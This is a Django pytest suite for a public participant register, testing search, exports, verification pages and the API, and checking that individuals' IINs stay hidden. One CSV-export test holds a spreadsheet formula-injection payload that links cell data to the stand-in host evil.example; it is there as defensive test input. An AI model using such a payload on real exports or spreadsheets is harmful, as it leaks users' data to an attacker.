"""The public register: search, sort, pages, exports, a page per participant, verification and the
API; an individual's IIN never leaves the database through any of them."""

import csv
import io
import json
from datetime import date, timedelta
from itertools import count

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from innocluster.apikit.permissions import CanPermission
from innocluster.core.identifiers import check_digit
from innocluster.parties.models import Activity, Region
from innocluster.parties.services import register as party_services
from innocluster.registry.api import register as registry_api
from innocluster.registry.models import Participant, ParticipantCategory
from innocluster.registry.selectors.register import search_register, today
from innocluster.registry.services import register as services

pytestmark = pytest.mark.django_db

_serials = count(1)


def valid_bin() -> str:
    while True:
        first11 = f"150340{next(_serials):05d}"  # March 2015, resident legal entity, head office
        digit = check_digit(first11)
        if digit is not None:
            return f"{first11}{digit}"


def valid_iin() -> str:
    while True:
        first11 = f"8505174{next(_serials):04d}"  # born 17 May 1985, female
        digit = check_digit(first11)
        if digit is not None:
            return f"{first11}{digit}"


@pytest.fixture
def ref(db):
    almaty = Region.objects.create(
        kato="750000000", kind="city", name_kk="Алматы", name_ru="Алматы", name_en="Almaty"
    )
    astana = Region.objects.create(
        kato="710000000", kind="city", name_kk="Астана", name_ru="Астана", name_en="Astana"
    )
    it = Activity.objects.create(
        oked="62",
        section="J",
        name_kk="Бағдарламалау",
        name_ru="Программирование",
        name_en="Computer programming",
    )
    startup = ParticipantCategory.objects.create(
        code="startup", kind="organisation", name_kk="Стартап", name_ru="Стартап", name_en="Start-up company"
    )
    science = ParticipantCategory.objects.create(
        code="science", kind="organisation", name_kk="Ғылым", name_ru="Наука", name_en="Science organisation"
    )
    person = ParticipantCategory.objects.create(
        code="innovator",
        kind="individual",
        name_kk="Өнертапқыш",
        name_ru="Новатор",
        name_en="Individual innovator",
    )
    return {
        "almaty": almaty,
        "astana": astana,
        "it": it,
        "startup": startup,
        "science": science,
        "person": person,
    }


def member(ref, name_ru, *, name_en="", category="startup", region="almaty", on=date(2025, 3, 1), bin=None):
    organisation = party_services.create_organisation(
        bin=bin or valid_bin(),
        name_kk=f"{name_ru} (kk)",
        name_ru=name_ru,
        name_en=name_en,
        legal_form="LLP",
        region=ref[region],
        activity=ref["it"],
    )
    return services.register_participant(organisation=organisation, category=ref[category], registered_on=on)


def person(ref, *, iin, on=date(2025, 5, 1)):
    individual = party_services.create_individual(
        iin=iin, last_name="Сейтова", first_name="Айгерим", middle_name="Болатовна"
    )
    return services.register_participant(individual=individual, category=ref["person"], registered_on=on)


@pytest.fixture
def register(ref):
    alpha = member(ref, "ТОО «Альфа»", name_en="Alpha LLP", on=date(2025, 1, 10))
    beta = member(
        ref, "ТОО «Бета»", name_en="Beta LLP", category="science", region="astana", on=date(2025, 2, 10)
    )
    gamma = member(ref, "ТОО «Гамма»", name_en="Gamma LLP", on=date(2024, 12, 1))
    iin = valid_iin()
    aigerim = person(ref, iin=iin)
    services.change_status(beta, status="suspended", effective_on=date(2025, 6, 1), reason="Report not filed")
    return {"alpha": alpha, "beta": beta, "gamma": gamma, "aigerim": aigerim, "iin": iin}


def names(response) -> list[str]:
    return [p.display_name for p in response.context["page"]]


# --- the list ----------------------------------------------------------------------------------


def test_list_shows_everyone_with_links_counts_and_no_iin(client, register):
    response = client.get("/register/")
    assert response.status_code == 200
    html = response.content.decode()
    assert response.context["page"].paginator.count == 4
    assert f'href="/register/{register["alpha"].number}/"' in html
    assert "Alpha LLP" in html  # the organisation's name in the reader's language
    assert "Сейтова Айгерим Болатовна" in html
    assert register["iin"] not in html
    assert {v: n for v, _label, n in response.context["statuses"]} == {
        "registered": 3,
        "suspended": 1,
        "excluded": 0,
        "exited": 0,
    }


def test_search_by_name_in_any_language_by_bin_and_never_by_iin(client, register):
    assert names(client.get("/register/", {"q": "альф"})) == ["ТОО «Альфа»"]
    assert names(client.get("/register/", {"q": "Gamma"})) == ["ТОО «Гамма»"]
    bin_ = register["beta"].organisation.bin
    assert names(client.get("/register/", {"q": f" {bin_[:6]} {bin_[6:]} "})) == ["ТОО «Бета»"]
    assert names(client.get("/register/", {"q": bin_[:8]})) == []  # a BIN matches only exactly
    assert names(client.get("/register/", {"q": register["iin"]})) == []
    assert names(client.get("/register/", {"q": register["gamma"].number})) == ["ТОО «Гамма»"]


def test_filters_by_category_status_and_region(client, register):
    assert names(client.get("/register/", {"category": "science"})) == ["ТОО «Бета»"]
    assert names(client.get("/register/", {"category": "innovator"})) == ["Сейтова Айгерим Болатовна"]
    assert names(client.get("/register/", {"status": "suspended"})) == ["ТОО «Бета»"]
    assert names(client.get("/register/", {"region": "750000000", "sort": "name"})) == [
        "ТОО «Альфа»",
        "ТОО «Гамма»",
    ]
    assert names(client.get("/register/", {"region": "750000000", "status": "suspended"})) == []


def test_unknown_filter_values_are_reported_and_ignored(client, register):
    response = client.get("/register/", {"category": "nope", "status": "bogus", "q": "Альфа"})
    assert response.status_code == 200
    assert response.context["form"].errors.keys() == {"category", "status"}
    assert names(response) == ["ТОО «Альфа»"]


def test_sort_by_number_name_and_date_both_ways(client, register):
    by_number = names(client.get("/register/"))
    assert [p.number for p in client.get("/register/").context["page"]] == sorted(
        Participant.objects.values_list("number", flat=True)
    )
    assert names(client.get("/register/", {"sort": "-number"})) == by_number[::-1]
    assert names(client.get("/register/", {"sort": "name", "category": "startup"})) == [
        "ТОО «Альфа»",
        "ТОО «Гамма»",
    ]
    assert names(client.get("/register/", {"sort": "-name", "category": "startup"})) == [
        "ТОО «Гамма»",
        "ТОО «Альфа»",
    ]
    assert names(client.get("/register/", {"sort": "registered_on"}))[0] == "ТОО «Гамма»"
    assert names(client.get("/register/", {"sort": "-registered_on"}))[0] == "Сейтова Айгерим Болатовна"


def test_pages_of_fifty_keep_the_filters(client, ref):
    for i in range(53):
        member(ref, f"ТОО «Компания {i:02d}»")
    first = client.get("/register/", {"sort": "name"})
    assert len(first.context["page"]) == 50
    html = first.content.decode()
    assert "?sort=name&amp;page=2" in html
    second = client.get("/register/", {"sort": "name", "page": 2})
    assert names(second) == ["ТОО «Компания 50»", "ТОО «Компания 51»", "ТОО «Компания 52»"]
    assert client.get("/register/", {"page": "999"}).context["page"].number == 2  # the last page


def test_list_queries_do_not_grow_with_rows(client, ref):
    def queries() -> int:
        with CaptureQueriesContext(connection) as ctx:
            assert client.get("/register/").status_code == 200
        return len(ctx.captured_queries)

    for i in range(3):
        member(ref, f"ТОО «A{i}»")
    person(ref, iin=valid_iin())
    queries()  # the first page builds the filter form's cached options (categories, regions)
    few = queries()
    for i in range(30):
        member(
            ref,
            f"ТОО «B{i}»",
            region="astana" if i % 2 else "almaty",
            category="science" if i % 3 else "startup",
        )
    for _i in range(3):
        person(ref, iin=valid_iin())
    assert queries() == few


def test_filter_options_follow_a_new_region_and_the_readers_language(client, register):
    assert 'value="790000000"' not in client.get("/register/").content.decode()  # options cached now
    Region.objects.create(
        kato="790000000", kind="city", name_kk="Шымкент", name_ru="г. Шымкент", name_en="Shymkent"
    )
    assert '<option value="790000000">Shymkent</option>' in client.get("/register/").content.decode()
    russian = client.get("/register/", headers={"accept-language": "ru"}).content.decode()
    assert '<option value="790000000">г. Шымкент</option>' in russian


# --- exports -----------------------------------------------------------------------------------


def streamed(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


def test_csv_export_has_bom_header_rows_and_no_iin(client, register):
    response = client.get("/register/export.csv", {"sort": "name"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="register-')
    text = streamed(response)
    assert text.startswith("\ufeff")
    assert register["iin"] not in text
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[0] == [
        "number",
        "name",
        "bin",
        "category",
        "category_name",
        "status",
        "status_name",
        "region",
        "region_name",
        "registered_on",
        "status_since",
    ]
    assert len(rows) == 5
    by_number = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    beta = by_number[register["beta"].number]
    assert beta["name"] == "Beta LLP"
    assert beta["bin"] == register["beta"].organisation.bin
    assert (beta["category"], beta["status"], beta["status_since"]) == ("science", "suspended", "2025-06-01")
    assert (beta["region"], beta["region_name"], beta["registered_on"]) == (
        "710000000",
        "Astana",
        "2025-02-10",
    )
    aigerim = by_number[register["aigerim"].number]
    assert (aigerim["name"], aigerim["bin"], aigerim["region"]) == ("Сейтова Айгерим Болатовна", "", "")


def test_csv_export_follows_the_filters(client, register):
    text = streamed(client.get("/register/export.csv", {"status": "suspended"}))
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [row[0] for row in rows[1:]] == [register["beta"].number]


def test_csv_names_follow_the_readers_language(client, register, settings):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "ru"
    text = streamed(client.get("/register/export.csv", {"category": "science"}))
    assert "ТОО «Бета»" in text and "Наука" in text and "Beta LLP" not in text


def test_csv_export_neutralises_names_a_spreadsheet_would_run_as_formulas(client, ref):
    hostile = '=HYPERLINK("http://evil.example/?"&A1;"Click")'
    member(ref, "ТОО «Альфа»", name_en=hostile)
    member(ref, "ТОО «Бета»", name_en="@SUM(1+1)")
    member(ref, "ТОО «Гамма»", name_en="-2+3")
    text = streamed(client.get("/register/export.csv", {"sort": "number"}))
    names = [row[1] for row in csv.reader(io.StringIO(text.removeprefix("\ufeff")))][1:]
    assert names == ["'" + hostile, "'@SUM(1+1)", "'-2+3"]


def test_json_export_has_count_and_results_without_iin(client, register):
    response = client.get("/register/export.json", {"category": "startup", "sort": "-number"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    data = json.loads(streamed(response))
    assert data["count"] == 2
    assert data["date"] == today().isoformat()
    assert [r["number"] for r in data["results"]] == sorted(
        [register["alpha"].number, register["gamma"].number], reverse=True
    )
    assert data["results"][0].keys() == set(data["columns"])
    everyone = streamed(client.get("/register/export.json"))
    assert json.loads(everyone)["count"] == 4
    assert register["iin"] not in everyone


def test_export_rows_stream_from_values_not_models(register, django_assert_num_queries):
    from innocluster.registry.selectors.register import register_rows

    with django_assert_num_queries(1):
        rows = list(register_rows(search_register({})))
    assert len(rows) == 4 and all(isinstance(r, dict) for r in rows)


# --- a participant's page ----------------------------------------------------------------------


def test_participant_page_shows_details_and_history_with_grounds(client, register):
    beta = register["beta"]
    response = client.get(f"/register/{beta.number}/")
    assert response.status_code == 200
    html = response.content.decode()
    for text in ("Beta LLP", beta.organisation.bin, "Science organisation", "Astana", "Computer programming",
                 "Report not filed", "Suspended", "registered"):  # fmt: skip
        assert text.lower() in html.lower(), text
    history = list(response.context["participant"].history.all())
    assert [(c.status, c.effective_on) for c in history] == [
        ("registered", date(2025, 2, 10)),
        ("suspended", date(2025, 6, 1)),
    ]


def test_participant_page_of_an_individual_masks_the_iin(client, register):
    response = client.get(f"/register/{register['aigerim'].number}/")
    html = response.content.decode()
    assert "Сейтова Айгерим Болатовна" in html and "Individual innovator" in html
    assert register["iin"] not in html
    assert register["iin"][:6] not in html  # the birth date
    assert "********" + register["iin"][8:] in html


def test_participant_page_queries_are_few(client, register, django_assert_max_num_queries):
    with django_assert_max_num_queries(6):
        client.get(f"/register/{register['beta'].number}/")


def test_unknown_participant_is_404(client, register):
    assert client.get("/register/1999-99999/").status_code == 404


# --- verification ------------------------------------------------------------------------------


def test_verify_valid(client, register):
    response = client.get(f"/verify/{register['alpha'].number}/")
    assert response.status_code == 200
    html = response.content.decode()
    assert f"Registration No. {register['alpha'].number} is VALID today" in html
    assert response.context["today"].on == today()


def test_verify_suspended_says_since_when(client, register):
    html = client.get(f"/verify/{register['beta'].number}/").content.decode()
    assert "is SUSPENDED since" in html and "VALID today" not in html
    assert "June 1, 2025" in html


def test_verify_excluded_and_exited(client, register):
    services.change_status(
        register["gamma"], status="excluded", effective_on=date(2025, 9, 1), reason="Breach"
    )
    html = client.get(f"/verify/{register['gamma'].number}/").content.decode()
    assert "is EXCLUDED since" in html and "Sept. 1, 2025" in html
    services.change_status(
        register["alpha"], status="exited", effective_on=date(2025, 10, 1), reason="Own request"
    )
    html = client.get(f"/verify/{register['alpha'].number}/").content.decode()
    assert "left the cluster on" in html


def test_verify_ignores_a_change_recorded_for_a_later_date(client, register):
    services.change_status(
        register["alpha"],
        status="excluded",
        effective_on=today() + timedelta(days=30),
        reason="Decided in advance",
    )
    html = client.get(f"/verify/{register['alpha'].number}/").content.decode()
    assert "is VALID today" in html


def test_verify_an_individual_shows_no_iin(client, register):
    html = client.get(f"/verify/{register['aigerim'].number}/").content.decode()
    assert "VALID today" in html and register["iin"][8:] not in html


def test_verify_unknown_number_is_404(client, register):
    assert client.get("/verify/2020-00000/").status_code == 404


def test_pages_are_get_only(client, register):
    assert client.post("/register/").status_code == 405
    assert client.post(f"/verify/{register['alpha'].number}/").status_code == 405


# --- API ---------------------------------------------------------------------------------------


def test_api_list_is_public_paginated_with_count_and_no_iin(client, register):
    response = client.get("/api/v1/participants/")
    assert response.status_code == 200
    data = response.json()
    assert data["count"] == 4 and len(data["results"]) == 4 and "next" in data
    assert register["iin"] not in response.content.decode()
    aigerim = next(r for r in data["results"] if r["kind"] == "individual")
    assert (aigerim["name"], aigerim["bin"], aigerim["region"]) == ("Сейтова Айгерим Болатовна", None, None)
    alpha = next(r for r in data["results"] if r["number"] == register["alpha"].number)
    assert alpha["name"] == "Alpha LLP" and alpha["region"] == "750000000" and alpha["category"] == "startup"


def test_api_list_filters(client, register):
    def numbers(**params):
        return [r["number"] for r in client.get("/api/v1/participants/", params).json()["results"]]

    assert numbers(q="Бета") == [register["beta"].number]
    assert numbers(q=register["alpha"].organisation.bin) == [register["alpha"].number]
    assert numbers(q=register["iin"]) == []
    assert numbers(status="suspended") == [register["beta"].number]
    assert numbers(category="innovator") == [register["aigerim"].number]
    assert numbers(region="710000000") == [register["beta"].number]
    assert numbers(sort="-registered_on")[0] == register["aigerim"].number
    assert client.get("/api/v1/participants/", {"status": "bogus"}).status_code == 400


def test_api_list_pages(client, ref):
    for i in range(55):
        member(ref, f"ТОО «API {i:02d}»")
    data = client.get("/api/v1/participants/").json()
    assert data["count"] == 55 and len(data["results"]) == 50 and data["next"]
    assert len(client.get(data["next"]).json()["results"]) == 5


def test_api_detail_with_history_and_404(client, register):
    data = client.get(f"/api/v1/participants/{register['beta'].number}/").json()
    assert data["activity"] == "62" and data["status"] == "suspended"
    assert [(h["status"], h["effective_on"], h["grounds"]) for h in data["history"]] == [
        ("registered", "2025-02-10", ""),
        ("suspended", "2025-06-01", "Report not filed"),
    ]
    person_response = client.get(f"/api/v1/participants/{register['aigerim'].number}/")
    assert person_response.json()["activity"] is None
    assert register["iin"] not in person_response.content.decode()
    assert client.get("/api/v1/participants/1999-99999/").status_code == 404


def test_api_views_follow_the_api_contract():
    for view in (registry_api.ParticipantListView, registry_api.ParticipantDetailView):
        assert view.access_action == "registry.public"
        assert CanPermission in view.permission_classes


def test_api_schema_validates_with_the_register_routes(tmp_path, settings):
    from django.core.management import call_command

    target = tmp_path / "schema.yaml"
    call_command("spectacular", validate=True, fail_on_warn=True, file=str(target))
    text = target.read_text()
    assert "  /api/v1/participants/:" in text and "  /api/v1/participants/{number}/:" in text
